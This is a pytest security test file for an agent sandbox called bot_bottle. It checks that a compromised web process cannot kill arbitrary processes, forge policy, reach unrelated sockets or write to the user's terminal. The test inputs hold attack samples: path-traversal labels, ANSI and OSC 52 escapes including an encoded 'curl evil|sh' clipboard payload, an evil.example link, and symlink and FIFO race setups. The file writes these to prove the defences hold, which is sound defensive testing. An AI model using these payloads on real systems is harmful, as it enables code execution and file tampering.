"""A web process that was taken over and asks the starter for what no page has: the starter does what a person at the
page can have done, and nothing else (D17). Its frames are written by hand here, as an exploit would.
"""

import contextlib
import os
import queue
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from bot_bottle.api.request import Request
from bot_bottle.api.settings import Settings
from bot_bottle.api.wiring import Host
from bot_bottle.audit import index_schema
from bot_bottle.base.errors import HostFault, UsageFault
from bot_bottle.base.home import Home
from bot_bottle.bottles import lease
from bot_bottle.bottles import spawn as spawn_module
from bot_bottle.cli import serve, serve_starter, serve_web
from bot_bottle.cli.serve_places import Places
from bot_bottle.egress.channel import Channel
from bot_bottle.keeper.messages.approvals import AnswerAsk, Answered, RevokeGrant
from bot_bottle.keeper.messages.control import KeeperToControl, LearnPolicy, ReloadPolicy, RenewSecret
from bot_bottle.keeper.messages.replies import Done, Refused
from bot_bottle.policy.verdict import Target
from bot_bottle.supervise.model import Approver, Scope, Wanted
from bot_bottle.supervise.notify import push, webpush
from bot_bottle.supervise.store import SqliteStore
from bot_bottle.web import addresses, messages
from bot_bottle.web.pairing import CODE_SECONDS
from bot_bottle.web.wish import StartWish
from unit.keeper.stand import IDENTITY, POLICY, Stand
from web_stage import until

WAIT = 60


@pytest.fixture
def home(tmp_path: Path) -> Home:
    made = Home(str(tmp_path / "home"), str(tmp_path / "home/run"))
    for place in (made.web, f"{made.root}/leases"):
        os.makedirs(place)
    return made


@pytest.fixture
def starter(home: Home) -> Iterator[Any]:
    host = Host({"BOT_BOTTLE_HOME": home.root})
    made = serve_starter.Starter(host, Settings(), Places((), []), lambda _: None)
    yield made
    made.close()


def heard(frame: dict[str, Any]) -> Any:
    """What the starter's end of the link makes of a frame."""
    web, ours = socket.socketpair()
    with web, ours:
        body = msgspec.msgpack.encode(frame)
        web.sendall(len(body).to_bytes(4, "big") + body)
        link: Channel[Any, Any] = Channel(ours, messages.WebToStarter)
        return link.receive()[0]


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A process of the person that is no bottle."""
    with subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE) as process:
        yield process
        process.kill()


@pytest.fixture
def forged(home: Home, victim: subprocess.Popen[bytes]) -> Iterator[str]:
    """A lease that web wrote into its own directory, and a lock that another process holds; its label as a path."""
    facts = lease.Held("x", "r", "b", "a", "h", "", 0, state="running")
    facts.processes = (lease.process("launcher", victim.pid),)
    Path(home.web, "x.json").write_bytes(msgspec.json.encode(facts))
    holds = (
        "import fcntl, os, struct, sys\n"
        "lock = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\n"
        "fcntl.fcntl(lock, fcntl.F_OFD_SETLK, struct.pack('hhqqi4x', fcntl.F_WRLCK, 0, 0, 0, 0))\n"
        "print(flush=True); input()"
    )
    with subprocess.Popen(
        [sys.executable, "-c", holds, f"{home.web}/x.lock"], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as holder:
        assert holder.stdout is not None
        holder.stdout.readline()
        yield "../web/x"
        holder.kill()


def test_d17_a_label_that_is_a_path_kills_nothing(
    starter: Any, home: Home, victim: subprocess.Popen[bytes], forged: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(msgspec.ValidationError):
        heard({"type": "killbottle", "number": 1, "label": forged})
    replies: queue.SimpleQueue[messages.Reply] = queue.SimpleQueue()

    def told(reply: messages.Reply, _fds: tuple[int, ...]) -> None:
        replies.put(reply)

    starter._wish(messages.KillBottle(1, forged), told)  # behind the frame's own check
    assert replies.get(timeout=WAIT).error[0] == "label.unknown"
    assert victim.poll() is None
    monkeypatch.setattr(lease, "is_label", lambda _: True)  # control: this is what held it
    starter._wish(messages.KillBottle(2, forged), told)
    assert replies.get(timeout=WAIT).error[0] == ""
    assert victim.wait(WAIT) == -9


def test_d17_no_lease_is_looked_for_outside_the_leases(home: Home, forged: str) -> None:
    assert lease.read(home, forged) is None and not lease.alive(home, forged)
    for of in (
        lambda: lease.forget(home, forged),
        lambda: lease.take(home, lease.Held(forged, "r", "b", "a", "h", "", 0)),
    ):
        with pytest.raises(UsageFault, match="no label"):
            of()
    assert Path(home.web, "x.json").exists()


@pytest.mark.parametrize(
    "wish",
    [
        {"at_end": "apply"}, {"at_end": "ask"}, {"mode": "interactive"}, {"terminal": True}, {"base": "../x"},
        {"agent": "../agent"}, {"agent": "a\x1b[2J"}, {"bottles": ["../../b"]}, {"label": "../web/x"},
        {"workspace": "relative"}, {"argv": ["x\0"]}, {"prompt": "x" * 100_001}, {"wall_clock": -1},
    ],
)  # fmt: skip
def test_d17_what_web_may_have_started_has_no_word_for_more(wish: dict[str, Any]) -> None:
    """Above all none for changes that are applied: they would be written into the person's files."""
    fine = {"agent": "claude", "prompt": "mend it", "workspace": "/work/site", "at_end": "keep"}
    assert heard({"type": "startbottle", "number": 1, "request": fine}).request.at_end == "keep"
    with pytest.raises(msgspec.ValidationError):
        heard({"type": "startbottle", "number": 1, "request": fine | wish})


def test_d17_what_is_begun_for_web_is_headless_and_applies_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    begun: list[Request] = []

    class Prepared:
        def __init__(self, request: Request, _host: Host) -> None:
            begun.append(request)

        def detach(self) -> str:
            return "x"

    monkeypatch.setattr(serve_starter, "prepare", Prepared)
    for wished in ("keep", "apply", "ask"):  # behind the frame's own check
        wish = StartWish("claude", prompt="mend it", at_end=cast("Any", wished))
        assert serve_starter.start(Host({}), wish) == "x"
        request = begun.pop()
        assert (request.mode, request.terminal, request.at_end) == ("headless", False, "keep")


# ---- the sockets of keepers: web cannot connect, the starter hands them over


@pytest.fixture
def keeper(home: Home) -> Iterator[Stand]:
    """A real keeper, and the lease of its bottle."""
    held = lease.take(home, lease.Held(IDENTITY.label, IDENTITY.run, "b", "a", "h", "", 0, "running"))
    made = Stand(home)
    made.start()
    yield made
    made.close()
    held.release()


def reached(starter: Any, label: str) -> tuple[messages.Reply, list[int]]:
    """What web gets for it, by a link like its own."""
    ours, web = socket.socketpair()
    sender: Channel[Any, Any] = Channel(ours, messages.Reply)
    receiver: Channel[Any, Any] = Channel(web, messages.Reply)
    with ours, web:
        starter._wish(messages.ReachKeeper(1, label), sender.send)
        web.settimeout(WAIT)
        return receiver.receive()


def said(fd: int, *words: Any) -> list[Any]:
    """Answers of the keeper at a connection that web got."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fd) as sock:
        link: Channel[Any, Any] = Channel(sock, KeeperToControl)
        sock.settimeout(WAIT)
        answers: list[Any] = []
        for word in words:
            link.send(word)
            answers.append(link.receive()[0])
        return answers


def test_d17_the_starter_hands_over_living_keepers_and_nothing_else(
    starter: Any, home: Home, keeper: Stand, forged: str
) -> None:
    reply, fds = reached(starter, IDENTITY.label)
    assert reply.error[0] == "" and len(fds) == 1
    os.close(fds[0])
    listener = socket.socket(socket.AF_UNIX)
    os.makedirs(home.sockets("other"))
    with listener:
        listener.bind(f"{home.sockets('other')}/control")
        listener.listen()
        for label in ("other", forged, "../../one"):  # no lease; a lease by web; no label
            reply, fds = reached(starter, label)
            assert (reply.error[0], fds) == ("label.unknown", [])
        with pytest.raises(msgspec.ValidationError):
            heard({"type": "reachkeeper", "number": 1, "label": forged})


def test_d17_a_keeper_takes_no_policy_and_no_secret_from_web(starter: Any, keeper: Stand) -> None:
    """What a person may say at the command line, and no page has."""
    orders = (ReloadPolicy(msgspec.structs.replace(POLICY, default="allow")), RenewSecret("key"))
    _, (fd,) = reached(starter, IDENTITY.label)
    assert [answer.slug for answer in said(fd, *orders)] == ["web.control"] * 2
    assert not isinstance(keeper.ask(orders[1]), Refused)  # control: where the starter did not say so


def test_d17_what_web_vouches_for_is_recorded_as_that(starter: Any, keeper: Stand) -> None:
    """It may name any session as the approver; that web named it is in the record, whatever it says of the way."""
    opened = keeper.asks(1, Wanted(Target("https", "hooks.example.net", 443), "POST", "/in"))
    ask = keeper.store().ask(opened.ask)
    assert ask is not None
    forged = Approver("os", str(os.getuid()), "me", "terminal")
    _, (fd,) = reached(starter, IDENTITY.label)
    (answer,) = said(fd, AnswerAsk(ask.id, ask.request, True, forged, Scope.RUN))
    assert isinstance(answer, Answered)
    _, (fd,) = reached(starter, IDENTITY.label)
    assert said(fd, RevokeGrant(answer.grant, forged), LearnPolicy(60, forged)) == [Done(), Done()]
    keeper.finish()
    kinds = {"answer": None, "learn": None, "grant": None}
    for record in keeper.records():
        if record.kind in kinds and record.verdict in ("allow", "begun", "revoked"):
            kinds[record.kind] = record.detail["via"]
    assert kinds == dict.fromkeys(kinds, "web")


# ---- what the person is shown


@pytest.mark.parametrize(
    "frame",
    [
        {"type": "codemade", "code": "ABCD\x1b]52;c;Y3VybCBldmlsfHNo\x07"},
        {"type": "codemade", "code": "ABCDEFGH\n"},
        {"type": "codemade", "code": "ABCDEFGH", "link": "https://192.168.1.66/pair#ABCDEFGH"},
        {"type": "codemade", "code": "ABCDEFGH", "fingerprint": "66:66"},
        {"type": "codeissued", "code": "ABCD-EFGH", "link": "https://192.168.1.66/pair#ABCDEFGH", "seconds": 300},
        {"type": "keymade", "key": "x" * 42 + "\x1b"},
        {"type": "keymade", "key": "x" * 43, "link": "http://evil.example/"},
        {"type": "keyissued", "link": "http://evil.example/"},
        {"type": "serving", "url": "", "urls": [], "key": "x" * 43, "confinement": "landlock\x1b[2J"},
    ],
)
def test_d17_web_has_no_word_for_an_address_a_fingerprint_or_an_escape(frame: dict[str, Any]) -> None:
    assert heard({"type": "codemade", "code": "ABCDEFGH"}) == messages.CodeMade("ABCDEFGH")
    with pytest.raises(msgspec.MsgspecError):
        heard(frame)


def test_d17_address_and_fingerprint_that_a_person_sees_are_the_starters() -> None:
    with socket.create_server(("127.0.0.1", 0)) as near, socket.create_server(("127.0.0.1", 0)) as far:
        certificate = messages.Certificate("", "", "", "AA:BB")
        listen = (messages.Listen(passed=True), messages.Listen(tls=True, passed=True))
        begin = messages.Begin("", "", listen, ("192.168.1.5",), certificate=certificate)
        urls = addresses.urls(begin, (near, far))
        shown = serve_web.issued(begin, urls, "ABCDEFGH")
        port = far.getsockname()[1]
        assert shown == messages.CodeIssued(
            "ABCD-EFGH", f"https://192.168.1.5:{port}/pair#ABCDEFGH", CODE_SECONDS, "AA:BB"
        )
        assert addresses.link(urls, "k") == f"http://127.0.0.1:{near.getsockname()[1]}/?key=k"


FAKE_WEB = """
import socket, sys
from bot_bottle.egress.channel import Channel
from bot_bottle.supervise.notify import push, webpush
from bot_bottle.web import addresses, messages
from bot_bottle.web.pairing import CODE_SECONDS
link = Channel(socket.socket(fileno=3), messages.StarterToWeb)
link.receive()
for out in (sys.stdout, sys.stderr):
    print("\x1b]52;c;Y3VybCBldmlsfHNo\x07", file=out, flush=True)
link.send(messages.Refused("web.x", "no \x1b[2J", "\x1b]0;x\x07"))
"""


def test_d17_nothing_that_web_writes_reaches_the_persons_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """Neither its own output, nor what it says of why it does not start."""
    fake = tmp_path / "fake.py"
    fake.write_text(FAKE_WEB)
    real, argv = spawn_module._become, [sys.executable, "-I", str(fake)]
    monkeypatch.setattr(spawn_module, "_become", lambda _argv, *rest: real(argv, *rest))
    told: list[str] = []
    with pytest.raises(HostFault) as raised:
        serve_web.WebProcess(messages.Begin("", "", ()), [], lambda *_: None, told.append)
    assert raised.value.slug == "web.x"
    until(lambda: len(told) == 1)
    for line in (str(raised.value), *told):
        serve.say(line)
    serve.show_code(messages.CodeIssued("A\x1b[2J", "https://x\x1b[2J/pair#A", 300, "AA\x1b[2J"))
    assert told == ["web: \\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7}"]
    assert "\x1b" not in "".join(capfd.readouterr()) + raised.value.what + raised.value.hint


# ---- what web writes, and the starter reads: subscriptions of Web Push


@pytest.fixture
def pushes(home: Home, monkeypatch: pytest.MonkeyPatch) -> Any:
    """A notifier; the push service answers 404 to whatever, after what the test does meanwhile."""
    meanwhile: list[Callable[[], object]] = []

    class Gone:
        host = "fcm.googleapis.com"

        def __init__(self, *_: object) -> None: ...

        def post(self, *_: object) -> Any:
            for do in meanwhile:
                do()
            return SimpleNamespace(status=404)

        def close(self) -> None: ...

    monkeypatch.setattr(push, "Poster", Gone)
    os.makedirs(f"{home.web}/push")
    notifier = push.PushNotifier(push.PushConfig(), home.root)
    return SimpleNamespace(meanwhile=meanwhile, send=lambda: notifier.send(cast("Any", SimpleNamespace(waiting=1))))


def subscribed(device: str = "d", until: int = 0) -> bytes:
    key = webpush.unpadded(webpush.point(ec.generate_private_key(ec.SECP256R1())))
    endpoint, auth = "https://fcm.googleapis.com/x", webpush.unpadded(b"0" * 16)
    return msgspec.json.encode(push.Subscription(endpoint, key, auth, device, until))


def test_d17_a_directory_that_becomes_a_link_has_the_starter_remove_nothing(home: Home, pushes: Any) -> None:
    victim = Path(home.root, "approvals")
    victim.write_text("asks and grants of everybody")
    Path(home.web, "push/approvals").write_bytes(subscribed())

    def swapped() -> None:
        os.rename(f"{home.web}/push", f"{home.web}/moved")
        os.symlink(home.root, f"{home.web}/push")

    pushes.meanwhile.append(swapped)
    pushes.send()
    assert victim.exists()
    assert os.listdir(f"{home.web}/moved") == [], "what was read is what is removed"
    pushes.meanwhile.clear()
    pushes.send()  # now it is a link from the beginning
    assert victim.exists() and push.subscriptions(home.web) == []


def test_d17_what_is_no_small_file_is_no_subscription(home: Home, pushes: Any) -> None:
    """Links, devices without an end, pipes that nobody writes to, a file that fills the memory, very many files."""
    place = Path(home.web, "push")
    secret = Path(home.root, "secret.json")
    secret.write_bytes(subscribed("secret"))
    (place / "a").symlink_to("/dev/zero")
    (place / "b").symlink_to(secret)
    os.mkfifo(place / "c")
    with open(place / "d", "wb") as file:
        file.write(subscribed("large")[:-1] + b" " * (1 << 20) + b"}")
    os.mkdir(place / "e")
    assert push.subscriptions(home.web) == []
    pushes.send()
    assert secret.exists()
    for number in range(2000):
        (place / f"many-{number}").write_bytes(subscribed())
    assert len(push.subscriptions(home.web)) <= 256


def test_d17_a_session_that_has_ended_gets_no_push(home: Home, pushes: Any) -> None:
    posts: list[int] = []
    pushes.meanwhile.append(lambda: posts.append(1))
    Path(home.web, "push/old").write_bytes(subscribed(until=1))
    pushes.send()
    assert posts == [] and push.subscriptions(home.web) == []
    Path(home.web, "push/new").write_bytes(subscribed(until=time.time_ns() + 10**15))  # control
    pushes.send()
    assert posts == [1]


def test_d17_an_index_that_becomes_a_link_has_no_other_database_changed(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`bot-bottle log` opens the index, in a directory of web's; one of another version would lose its tables."""
    SqliteStore(home.approvals).close()
    tables = "SELECT name FROM sqlite_master ORDER BY name"
    with contextlib.closing(sqlite3.connect(home.approvals)) as database:
        before = database.execute(tables).fetchall()
        journal = database.execute("PRAGMA journal_mode").fetchone()
    os.makedirs(os.path.dirname(home.index))
    os.symlink(home.approvals, home.index)
    monkeypatch.setattr(index_schema.database_file, "make", lambda _: None)  # web was quicker
    with pytest.raises(OSError, match="not a file of its own"):
        index_schema.connect(home.index)
    with contextlib.closing(sqlite3.connect(home.approvals)) as database:
        assert database.execute(tables).fetchall() == before
        assert database.execute("PRAGMA journal_mode").fetchone() == journal
    os.unlink(home.index)
    index_schema.connect(home.index).close()
